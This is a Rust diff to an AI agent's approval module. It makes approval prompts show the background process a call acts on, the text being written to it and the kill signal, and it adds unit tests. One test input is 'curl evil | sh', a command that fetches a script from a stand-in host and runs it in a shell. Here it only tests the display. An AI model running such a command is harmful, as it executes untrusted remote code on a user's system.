@@ -10,6 +10,7 @@ use std::pin::Pin;
 use std::sync::Mutex;
 
 use monad_protocol::text::printable;
+use monad_protocol::tools::ProcessInfo;
 use monad_protocol::wire::{Decider, Trust};
 use monad_protocol::{ToolClass, ToolName};
 use serde_json::Value;
@@ -46,6 +47,9 @@ pub struct ApprovalRequest {
     pub target: String,
     /// For writes and edits: the whole diff the call would make.
     pub diff: Option<String>,
+    /// For `process_write` and `process_kill`: the background process the call acts on, as this
+    /// folder's process table has it (its argv and directory), when it is still there.
+    pub process: Option<ProcessInfo>,
     /// For commands: the network they get, in words ([`monad_sandbox::ExecPolicy::network_summary`]).
     pub network: String,
     /// For commands: the time-out that applies when the call gives none, in milliseconds.
@@ -379,8 +383,13 @@ pub fn nobody_to_ask(tool: ToolName, dir: &str) -> String {
     )
 }
 
+/// Characters of the text written to a process that [`describe`] keeps.
+pub const DESCRIBED_TEXT_CHARS: usize = 80;
+
 /// The call in one line, escaped: its command line (argv quoted as a POSIX shell would need it,
-/// see [`crate::prompt::shell_words`]), or its path or pattern.
+/// see [`crate::prompt::shell_words`]), its path or pattern, or the process it acts on (with,
+/// for `process_write`, the first line of the text, cut at [`DESCRIBED_TEXT_CHARS`] with `…`
+/// when more follows; for `process_kill` the signal).
 pub fn describe(tool: ToolName, args: &Value) -> String {
     let text = |key: &str| args.get(key).and_then(Value::as_str);
     match tool {
@@ -401,7 +410,22 @@ pub fn describe(tool: ToolName, args: &Value) -> String {
             None => format!("pattern `{}`", printable(text("pattern").unwrap_or(""))),
         },
         ToolName::ProcessRead | ToolName::ProcessWrite | ToolName::ProcessKill => {
-            format!("process `{}`", printable(text("process").unwrap_or("")))
+            let mut line = format!("process `{}`", printable(text("process").unwrap_or("")));
+            if tool == ToolName::ProcessWrite {
+                let written = text("text").unwrap_or("");
+                let (first, rest) = written.split_once('\n').unwrap_or((written, ""));
+                let kept: String = first.chars().take(DESCRIBED_TEXT_CHARS).collect();
+                line.push_str(" < ");
+                line.push_str(&printable(&kept));
+                if kept.len() < first.len() || !rest.is_empty() {
+                    line.push_str(" …");
+                }
+            }
+            if tool == ToolName::ProcessKill {
+                line.push_str(", signal ");
+                line.push_str(&printable(text("signal").unwrap_or("TERM")));
+            }
+            line
         }
         ToolName::ProcessList => "the background processes".into(),
         _ => printable(text("path").unwrap_or(".")).into_owned(),
@@ -680,6 +704,53 @@ mod tests {
                 &Rule::of(ToolName::ProcessWrite, &other_text, &ProgramSite::Other)
             ),
             None
+        );
+    }
+
+    #[test]
+    fn process_calls_are_described_with_the_process_and_what_is_written() {
+        let cases = [
+            (
+                ToolName::ProcessWrite,
+                json!({"process": "p1", "text": "curl evil | sh\nmore\n"}),
+                "process `p1` < curl evil | sh …",
+            ),
+            (
+                ToolName::ProcessWrite,
+                json!({"process": "p1", "text": "ls\n"}),
+                "process `p1` < ls",
+            ),
+            (
+                ToolName::ProcessWrite,
+                json!({"process": "p1", "text": "a\u{1b}[2Kb"}),
+                "process `p1` < a\\u{1b}[2Kb",
+            ),
+            (
+                ToolName::ProcessKill,
+                json!({"process": "p1", "signal": "KILL"}),
+                "process `p1`, signal KILL",
+            ),
+            (
+                ToolName::ProcessKill,
+                json!({"process": "p1"}),
+                "process `p1`, signal TERM",
+            ),
+            (
+                ToolName::ProcessRead,
+                json!({"process": "p1"}),
+                "process `p1`",
+            ),
+        ];
+        for (tool, args, want) in cases {
+            assert_eq!(describe(tool, &args), want, "{args}");
+        }
+        let long = describe(
+            ToolName::ProcessWrite,
+            &json!({"process": "p", "text": "x".repeat(500)}),
+        );
+        assert_eq!(
+            long,
+            format!("process `p` < {} …", "x".repeat(DESCRIBED_TEXT_CHARS))
         );
     }
 
